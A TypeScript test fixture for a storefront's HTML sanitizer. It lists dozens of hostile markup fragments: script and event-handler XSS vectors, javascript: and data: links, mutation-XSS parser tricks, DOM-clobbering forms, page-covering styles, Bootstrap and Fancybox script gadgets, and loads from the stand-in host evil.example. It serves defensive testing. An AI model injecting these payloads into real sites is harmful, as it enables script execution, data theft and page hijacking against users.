/**
 * Fragments that a server should never send but might: a review, a name or a price into which somebody has written markup. Code in
 * them calls `hit`, and outside requests go to evil.example. None of them may have an effect [EMB-02].
 */
export interface HostileFragment {
  readonly name: string;
  readonly html: string;
  /** Swallows everything behind it, so it has to be the last fragment of an answer. */
  readonly isOpen?: true;
}

const hit = 'window.hit&&hit(1)';
const evil = 'https://evil.example';
const encoded = [...hit].map((sign) => `&#${sign.charCodeAt(0)};`).join('');

const running: Readonly<Record<string, string>> = {
  script: `<script>${hit}</script>`,
  'script in capitals': `<SCRIPT>${hit}</SCRIPT>`,
  'script of another host': `<script src="${evil}/x.js"></script>`,
  'script of another host, without a scheme': '<script src=//evil.example/x.js></script>',
  'module script': `<script type="module">${hit}</script>`,
  'script in a list': `<select><option>1</option><script>${hit}</script></select>`,
  'script with a slash': `<script/x>${hit}</script>`,
  'script in a drawing': `<svg><script>${hit}</script></svg>`,
  'script of a drawing from outside': `<svg><script href="${evil}/x.js"></script></svg>`,
  'script in a formula': `<math><mtext><script>${hit}</script></mtext></math>`,
  'script in a template': `<template><script>${hit}</script></template>`,
  'picture that fails': `<img src="x-broken:" onerror="${hit}">`,
  'picture that fails, without quotes': `<img src=x-broken: onerror=${hit}>`,
  'picture that fails, in mixed case': `<IMG SRC=x-broken: OnErRoR="${hit}">`,
  'picture that fails, slashes for spaces': `<img/src="x-broken:"/onerror="${hit}"/>`,
  'picture that fails, code in entities': `<img src=x-broken: onerror="${encoded}">`,
  'picture that fails, a line break in the tag': `<img\nsrc=x-broken:\nonerror\n=\n"${hit}">`,
  'picture that fails, a form feed in the tag': `<img\fsrc=x-broken:\fonerror="${hit}">`,
  'picture that fails, in a template': `<template><img src=x-broken: onerror="${hit}"></template>`,
  'picture that fails, in a template in a template': `<template><template><img src=x-broken: onerror="${hit}"></template></template>`,
  'picture that is there': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${hit}">`,
  'picture of a drawing': `<svg><image href="x-broken:" onerror="${hit}"></image></svg>`,
  'image, as it was once called': `<image src=x-broken: onerror="${hit}">`,
  'drawing that loads': `<svg onload="${hit}"></svg>`,
  'drawing that loads, in a drawing': `<svg><g onload="${hit}"><path d="M0 0"/></g></svg>`,
  'animation that begins': `<svg><animate onbegin="${hit}" attributeName="x" dur="1s"></animate></svg>`,
  'animation of a link': `<svg><a><animate attributeName="href" values="javascript:${hit}"/><text x="9" y="9">Х</text></a></svg>`,
  'setting of a link': `<svg><a><set attributeName="href" to="javascript:${hit}"/><text x="9" y="9">Х</text></a></svg>`,
  'motion that ends': `<svg><animateTransform onend="${hit}" attributeName="transform" dur="1ms"/></svg>`,
  'foreign part of a drawing': `<svg><foreignObject><img src=x-broken: onerror="${hit}"></foreignObject></svg>`,
  'frame of a drawing': `<svg><foreignObject><iframe src="javascript:${hit}"></iframe></foreignObject></svg>`,
  'use of a picture in the address': `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><script>${hit}</script></svg>#a"></use></svg>`,
  'use of another host': `<svg><use href="${evil}/x.svg#a"></use></svg>`,
  'use of another host, without a scheme': '<svg><use xlink:href="//evil.example/x.svg#a"></use></svg>',
  'use of a script address': `<svg><use xlink:href="javascript:${hit}#a"/></svg>`,
  'handler of a drawing’s reference':
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">window.hit&&hit(1)</handler></svg>',
  'focus by itself': `<input autofocus onfocus="${hit}">`,
  'focus by itself, on a list': `<select autofocus onfocus="${hit}"><option>1</option></select>`,
  'focus by itself, on a text': `<div contenteditable tabindex="1" autofocus onfocus="${hit}">Х</div>`,
  'focus by itself, on a button': `<button autofocus onfocus="${hit}">Х</button>`,
  'details that open': `<details open ontoggle="${hit}"><summary>Х</summary></details>`,
  'text that runs': `<marquee onstart="${hit}">Х</marquee>`,
  'film that fails': `<video src="x-broken:" onerror="${hit}"></video>`,
  'film whose source fails': `<video><source src="x-broken:" onerror="${hit}"></video>`,
  'sound that fails': `<audio src="x-broken:" onerror="${hit}"></audio>`,
  'style that is loaded': `<style onload="${hit}"></style>`,
  'style sheet that fails': `<link rel="stylesheet" href="x-broken:" onerror="${hit}">`,
  'object that fails': `<object data="x-broken:" onerror="${hit}"></object>`,
  'body with a handler': `<body onload="${hit}" onpageshow="${hit}"><p>Х</p></body>`,
  'animation that starts': `<div style="animation: vitrina-rise 1ms" onanimationstart="${hit}">Х</div>`,
  'transition that ends': `<div onanimationend="${hit}" ontransitionend="${hit}" onpointerover="${hit}">Х</div>`,
  'frame with a document of its own': `<iframe srcdoc="<script>parent.hit&&parent.hit(1)</script>"></iframe>`,
  'frame with a script address': `<iframe src="javascript:parent.${'hit(1)'}"></iframe>`,
  'frame with a document in the address': `<iframe src="data:text/html,<script>parent.hit(1)</script>"></iframe>`,
  'frame of another host': `<iframe src="${evil}/"></iframe>`,
  'frames as of old': `<frameset onload="${hit}"><frame src="javascript:parent.hit(1)"></frameset>`,
  'object with a document': `<object data="data:text/html,<script>parent.hit(1)</script>"></object>`,
  'plug-in with a script address': `<embed src="javascript:${hit}">`,
  portal: `<portal src="${evil}/"></portal><fencedframe src="${evil}/"></fencedframe>`,
};

const addresses: Readonly<Record<string, string>> = {
  'link to a script': `<a href="javascript:${hit}">Х</a>`,
  'link to a script in mixed case': `<a href="JaVaScRiPt:${hit}">Х</a>`,
  'link to a script behind spaces': `<a href=" \t\n javascript:${hit}">Х</a>`,
  'link to a script with a tab in it': `<a href="java\tscript:${hit}">Х</a>`,
  'link to a script with entities in it': `<a href="jav&#x61;script&colon;${hit}">Х</a>`,
  'link to a script with a line break as an entity': `<a href="java&#10;script:${hit}">Х</a>`,
  'link to a script behind a control sign': `<a href="\u0001javascript:${hit}">Х</a>`,
  'link to a script that looks like an address': `<a href="javascript://shop.example/%0a${hit}">Х</a>`,
  'link to a document in the address': `<a href="data:text/html,<script>${hit}</script>">Х</a>`,
  'link to a document in the address, encoded': '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=">Х</a>',
  'link to another script language': '<a href="vbscript:hit(1)">Х</a>',
  'link in a drawing': `<svg><a xlink:href="javascript:${hit}"><text x="9" y="9">Х</text></a></svg>`,
  'link in a formula': `<math><mi xlink:href="javascript:${hit}">Х</mi></math>`,
  'area of a map': `<map name="m"><area shape="default" href="javascript:${hit}"></map><img usemap="#m" src="/x.svg">`,
  'link that calls home': `<a href="/catalog/" ping="${evil}/">Х</a>`,
  'form that leads elsewhere': `<form action="${evil}/"><input name="q" value="1"><button>Х</button></form>`,
  'form that runs': `<form action="javascript:${hit}"><button>Х</button></form>`,
  'button that leads a form elsewhere': `<form><button formaction="${evil}/">Х</button></form>`,
  'button that runs': `<form><input type="submit" formaction="javascript:${hit}" value="Х"></form>`,
  'button of another form': '<button form="search" formmethod="post">Х</button>',
  'button that commands': '<button commandfor="headerfixed" command="show-popover" popovertarget="mobilemenu">Х</button>',
  'element that pops over': '<div popover="auto" id="pop">Х</div>',
  'base of another host': `<base href="${evil}/">`,
  'refresh to another host': `<meta http-equiv="refresh" content="0;url=${evil}/">`,
  'policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src 'none'">`,
  'style sheet of another host': `<link rel="stylesheet" href="${evil}/x.css">`,
  'prefetch of another host': `<link rel="prefetch" href="${evil}/"><link rel="preconnect" href="${evil}">`,
  'import of styles': `<style>@import "${evil}/x.css";</style>`,
  'picture of another host': `<img src="${evil}/x.png" alt="">`,
  'picture of another host, in a set': `<img src="/x.svg" srcset="/x.svg 1x, ${evil}/x.png 2x" alt="">`,
  'picture of another host, in a choice': `<picture><source srcset="${evil}/x.png"><img src="/x.svg" alt=""></picture>`,
  'picture of another host, that waits for a lazy loader': `<img class="lazy" src="/x.svg" data-src="${evil}/x.png" alt="">`,
  'picture of another host, in a set without spaces': `<img srcset="/x.svg 1x,${evil}/x.png 2x" alt="">`,
  'picture of another host, as a button': `<input type="image" src="${evil}/x.png" alt="">`,
  'picture of another host, in a drawing': `<svg><image href="${evil}/x.png"></image></svg>`,
  'picture of another host, as a filter': `<svg><filter><feImage href="${evil}/x.png"/></filter></svg>`,
  'background of a table': `<table background="${evil}/x.png"><tr><td background="${evil}/y.png">Х</td></tr></table>`,
  'poster of a film': `<video poster="${evil}/x.png"></video>`,
  'track of a sound': `<audio src="${evil}/x.mp3" autoplay></audio>`,
  'quotation with an address': `<blockquote cite="javascript:${hit}">Х</blockquote>`,
};

const covers = 'position:fixed;inset:0;z-index:2147483647;background:#f00';

const looks: Readonly<Record<string, string>> = {
  'style that covers the page': `<div style="${covers}">Х</div>`,
  'style that covers the page, and hides': `<div style="display:none;${covers};display:block">Х</div>`,
  'style that covers the page, without quotes': '<div style=position:fixed;inset:0;z-index:2147483647>Х</div>',
  'style that covers the page, in a link': `<a href="/catalog/" style="${covers}">Х</a>`,
  'style sheet that covers the page': `<style>body{display:none}.hostile{${covers}}</style>`,
  'style sheet in a drawing': `<svg><style>*{${covers}}</style></svg>`,
  'style that loads': `<div style="background:url(${evil}/x.png)">Х</div>`,
  'style that loads, in signs': String.raw`<div style="background:\75rl(${evil}/x.png)">Х</div>`,
  'style that computes': `<div style="width:expression(${hit})">Х</div>`,
  'style that binds': `<div style="-moz-binding:url(${evil}/x.xml#a);behavior:url(#default#time2)">Х</div>`,
  'class of the layer’s own popups': '<div class="vitrina-dialog vitrina-notices">Х</div>',
  'class of the template’s curtain': '<div class="jqmOverlay modal-backdrop">Х</div>',
  'popup of its own': '<dialog open><p>Х</p></dialog>',
  'first in the tab order': '<a href="/catalog/" tabindex="7">Х</a>',
};

const mutating: Readonly<Record<string, string>> = {
  'noscript that is one only without scripts': `<noscript><p title="</noscript><img src=x-broken: onerror=${hit}>"></noscript>`,
  'title in a drawing': `<svg><title><img src=x-broken: onerror="${hit}"></title></svg>`,
  'description in a drawing': `<svg><desc><img src=x-broken: onerror="${hit}"></desc></svg>`,
  'style in a formula': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x-broken: onerror=${hit}&gt;">`,
  'style in a drawing that ends elsewhere': `<svg></p><style><a id="</style><img src=x-broken: onerror=${hit}>">`,
  'form in a form in a formula': `<form><math><mtext></form><form><mglyph><style></math><img src=x-broken: onerror=${hit}>`,
  'data that are none outside of a drawing': `<![CDATA[><img src=x-broken: onerror="${hit}">]]>`,
  'comment that ends early': `<!--><img src=x-broken: onerror="${hit}">-->`,
  'comment that ends oddly': `<!-- --!><img src=x-broken: onerror="${hit}"> -->`,
  'comment of a server': `<!--[if gte IE 4]><script>${hit}</script><![endif]--><?php ?><img src=x-broken: onerror="${hit}">`,
  'table that throws out what it holds': `<table><img src=x-broken: onerror="${hit}"><tr><td>Х</td></tr></table>`,
  'list that another list ends': `<select><option>1<select><img src=x-broken: onerror="${hit}"></select>`,
  'text field with markup in it': `<textarea></textarea><img src=x-broken: onerror="${hit}">`,
  'frame as text': `<noembed><noframes><xmp></noframes></noembed></xmp><img src=x-broken: onerror="${hit}">`,
  'formula with an annotation': `<math><annotation-xml encoding="text/html"><img src=x-broken: onerror="${hit}"></annotation-xml></math>`,
  'shadow of its own': `<div><template shadowrootmode="open"><img src=x-broken: onerror="${hit}"><style>:host{${covers}}</style></template></div>`,
  'shadow of its own, as of old': `<div><template shadowroot="open"><script>${hit}</script></template></div>`,
};

const forged: Readonly<Record<string, string>> = {
  'host of an island': '<div data-vitrina-island="buy-button" data-vitrina-record="1"><span class="to-cart">Х</span></div>',
  'record of an island': '<span data-vitrina-record="1">Х</span>',
  'place of popups': '<div data-vitrina-overlays>Х</div>',
  'mark of the cleaner, of a reference': `<svg><g data-vitrina-use="${evil}/x.svg#a"></g></svg>`,
  'mark of the cleaner, of hiding': '<div data-vitrina-hidden data-vitrina="live">Х</div>',
  'page’s body': '<form name="body"><input name="x"></form>',
  'page’s ways to find': '<img name="querySelector" src="/x.svg" alt=""><img name="getElementById" id="createElement" src="/x.svg" alt="">',
  'page’s focus and styles': '<form name="activeElement"></form><form name="adoptedStyleSheets"></form>',
  'form’s attributes': '<form><input name="attributes"><input id="parentNode" name="nodeName"></form>',
  'form’s ways to change': '<form><button name="setAttribute">Х</button><select name="closest"></select><input name="remove"></form>',
  'form’s style and data': '<form><input name="style"><input name="dataset"><textarea name="classList"></textarea></form>',
  'the layer itself': '<a id="vitrina" href="/catalog/">Х</a><form name="vitrinaConfig"></form>',
  'globals of the template':
    '<a id="frameCacheVars"></a><a id="arAsproOptions"></a><a id="BX"></a><img name="arBasketAspro" src="/x.svg" alt="">',
  'trigger whose name is markup': `<span data-event="jqm" data-name='x"><img src=x-broken: onerror=${hit}>'>Х</span>`,
  'trigger whose address is a script': `<span data-event="jqm" data-name="x" data-param-url="javascript:${hit}" data-href="javascript:${hit}">Х</span>`,
  'hint with markup in it': `<span data-toggle="tooltip" data-html="true" title="&lt;img src=x-broken: onerror=${hit}&gt;" data-template="<img src=x-broken: onerror=${hit}>">Х</span>`,
  'picture’s words with markup in them': `<a data-fancybox="g" data-caption="<img src=x-broken: onerror=${hit}>" data-src="javascript:${hit}">Х</a>`,
  'data with markup in them': `<div data-options='{"html":"<img src=x-broken: onerror=${hit}>"}'>Х</div>`,
};

const picture = `<img src=x-broken: onerror=${hit}>`;
const written = picture.replaceAll('<', String.raw`\u003c`);
const inEntities = picture.replaceAll('<', '&lt;').replaceAll('>', '&gt;');

/** Data attributes that the template's libraries, Bootstrap 3.0.0 and Fancybox 3.5.7, obey when an element is pressed. */
export const gadgets: Readonly<Record<string, string>> = {
  'window of Bootstrap that loads another host': `<a data-toggle="modal" data-target="#gadget" href="${evil}/x.html">Х</a><div class="modal" id="gadget"></div>`,
  'window of Bootstrap that loads what it is told': `<button data-toggle="modal" data-target="#gadget2" data-remote="${evil}/x.html">Х</button><div class="modal" id="gadget2"></div>`,
  'window of Bootstrap whose place is markup': `<button data-toggle="modal" data-target="${picture}">Х</button>`,
  'window of Bootstrap whose address is markup': `<a data-toggle="modal" href="${picture}">Х</a>`,
  'tab of Bootstrap whose pane is markup': `<a data-toggle="tab" data-target="${picture}">Х</a>`,
  'tab of Bootstrap whose address is markup': `<ul><li><a data-toggle="tab" href="${picture}">Х</a></li></ul>`,
  'fold of Bootstrap whose parent is markup': `<a data-toggle="collapse" data-target="#x" data-parent="${picture}">Х</a>`,
  'fold of Bootstrap whose target is markup': `<a data-toggle="collapse" data-target="${picture}">Х</a>`,
  'list of Bootstrap whose place is markup': `<a data-toggle="dropdown" data-target="${picture}">Х</a>`,
  'button of Bootstrap with words of its own': `<button data-toggle="button" data-loading-text="${picture}">Х</button>`,
  'notice of Bootstrap that closes markup': `<button data-dismiss="alert" data-target="${picture}">Х</button>`,
  'pictures of Bootstrap that turn to markup': `<a data-slide="next" data-target="${picture}">Х</a><a data-slide-to="1" href="${picture}">Х</a>`,
  'pictures of Bootstrap that turn by themselves': '<div class="carousel" data-ride="carousel" data-interval="1"></div>',
  'hint of Bootstrap in a place that is markup': `<a data-toggle="tooltip" data-container="${picture}" data-viewport="${picture}">Х</a>`,
  'hint of Bootstrap with content': `<a data-toggle="popover" data-content="${picture}">Х</a>`,
  'spy of Bootstrap': `<div data-spy="scroll" data-target="${picture}" data-offset="1">Х</div>`,
  'words of a picture': `<a data-fancybox="g" href="/x.svg" data-caption="${picture}">Х</a>`,
  'words of a picture in brackets, a sign in quotes': `<a data-fancybox="g" href="/x.svg" data-caption="[<img src=x-broken: title='>' onerror=${hit}>">Х</a>`,
  'words of a picture in entities': `<a data-fancybox="g" href="/x.svg" data-caption="${inEntities.replaceAll('&', '&amp;')}">Х</a>`,
  'page of another host in Fancybox': `<a data-fancybox data-type="ajax" data-src="${evil}/x.html">Х</a>`,
  'page of this host in Fancybox': '<a data-fancybox data-type="ajax" data-src="/upload/review.html">Х</a>',
  'markup in Fancybox': `<a data-fancybox data-type="html" data-src="${picture}">Х</a>`,
  'frame in Fancybox': `<a data-fancybox data-type="iframe" data-src="${evil}/">Х</a>`,
  'frame in Fancybox, by its link': `<a data-fancybox data-type=" IFRAME " href="${evil}/">Х</a>`,
  'part of a page in Fancybox that is markup': `<a data-fancybox data-type="inline" data-src="${picture}">Х</a>`,
  'picture of another host in Fancybox': `<a data-fancybox="g" href="${evil}/x.png">Х</a>`,
  'picture of another host in a gallery': `<a class="detail-gallery-big__link" href="${evil}/x.png">Х</a>`,
  'picture of another host in Fancybox, by a class': `<a class="fancy popup_link" href="//evil.example/x.png">Х</a>`,
  'set of pictures in Fancybox': `<a data-fancybox="g" href="/x.svg" data-srcset="${evil}/x.png 1x">Х</a>`,
  'small picture in Fancybox': `<a data-fancybox="g" href="/x.svg" data-thumb="${evil}/x.png">Х</a>`,
  'film in Fancybox whose address is markup': `<a data-fancybox="g" href='/x"><img src=x-broken: onerror=${hit}>.mp4'>Х</a>`,
  'film in Fancybox whose address is an attribute': `<a data-fancybox="g" href='/x" onerror="${hit}" x=".mp4'>Х</a>`,
  'options of Fancybox: a page': `<a data-fancybox data-options='{"type":"ajax","src":"${evil}/x.html"}'>Х</a>`,
  'options of Fancybox: markup': `<a data-fancybox data-options='{"type":"html","src":"${written}"}'>Х</a>`,
  'options of Fancybox: a frame of markup': `<a data-fancybox="g" href="/x.svg" data-options='{"baseTpl":"${written}"}'>Х</a>`,
  'options of Fancybox as attributes': `<a data-fancybox="g" href="/x.svg" data-base-tpl="${written}" data-spinner-tpl="${picture}" data-parent-el="${picture}">Х</a>`,
  'options of Fancybox’s requests': `<a data-fancybox data-ajax='{"settings":{"url":"${evil}/x.html","dataType":"script"}}'>Х</a>`,
  'call of Fancybox from elsewhere': '<button data-fancybox-trigger="g" data-fancybox-index="1">Х</button>',
  'rule of a field that asks another host': `<input data-rule-remote='{"url":"${evil}/x.js","dataType":"script"}'>`,
  'words of a rule with markup in them': `<input data-msg-required="${picture}">`,
  'parameter of a popup that leads to another host':
    '<span data-event="jqm" data-name="x" data-param-url="%2F%2Fevil.example%2Fx">Х</span>',
  'address of another host in data': `<span data-href="${evil}/" data-file="//evil.example/x.php" data-url="https:evil.example">Х</span>`,
  'data with markup in signs of JSON': `<div data-params='{"a":["${written}"]}'>Х</div>`,
  'data with markup in a key': `<div data-params='{"${written}":1}'>Х</div>`,
  'data with markup in signs of signs': `<div data-params='{"a":"${written.replaceAll('\\', '\\\\')}"}'>Х</div>`,
  'data that are nearly JSON': `<div data-params="{'a':'${written}'}">Х</div>`,
  'background that waits for a lazy loader': `<div class="lazy" data-src="${evil}/x.png" data-bg="${evil}/y.png">Х</div>`,
};

/** Fields named like methods of their form, including the methods that a cleaner uses. */
export const clobbering: Readonly<Record<string, string>> = Object.fromEntries([
  ...[
    ...['localName', 'getAttribute', 'getAttributeNames', 'classList', 'matches', 'removeAttribute', 'hasAttribute', 'querySelector'],
    ...['querySelectorAll', 'elements', 'tagName', 'nodeType', 'namespaceURI', 'firstChild', 'childNodes', 'content', 'ownerDocument'],
  ].map((name) => [
    `form that hides its ${name}, named for the page’s own`,
    `<form name="querySelector" onclick="${hit}" data-vitrina="live"><input name="${name}"></form>`,
  ]),
  ...['getElementById', 'createElement', 'cookie'].map((name) => [
    `page’s ${name}, behind a form that hides its name`,
    `<form name="${name}"><input name="localName"></form>`,
  ]),
  ...['grecaptcha', 'map', 'trackBarOptions', 'obSkuQuantys', 'smartFilter', 'obMaxPredictions'].map((name) => [
    `name that the template asks for: ${name}`,
    `<a id="${name}"></a><form name="${name}"></form>`,
  ]),
]);

/** Unterminated markup: the rest of the answer becomes part of it. */
const open: Readonly<Record<string, string>> = {
  'attribute that never ends': `<img src="${evil}/?`,
  'attribute that never ends, in single quotes': `<a href='${evil}/?`,
  'script that never ends': `<script>${hit};/*`,
  'style that never ends': `<style>*{${covers}}/*`,
  'comment that never ends': `<img src=x-broken: onerror="${hit}"><!--`,
  'text that never ends': `<img src=x-broken: onerror="${hit}"><textarea>`,
  'title that never ends': `<iframe src="javascript:parent.hit(1)"></iframe><title>`,
  'plain text to the end': `<img src=x-broken: onerror="${hit}"><plaintext>`,
  'template that never ends': `<img src=x-broken: onerror="${hit}"><template>`,
  'list that never ends': `<img src=x-broken: onerror="${hit}"><select>`,
  'way out of the place': `</div></div></tbody></table></body></html><script>${hit}</script><div style="${covers}">`,
};

const named = (group: Readonly<Record<string, string>>): HostileFragment[] => Object.entries(group).map(([name, html]) => ({ name, html }));

export const corpus: readonly HostileFragment[] = [
  ...[running, addresses, looks, mutating, forged, gadgets, clobbering].flatMap(named),
  ...named(open).map((fragment) => ({ ...fragment, isOpen: true }) as const),
];
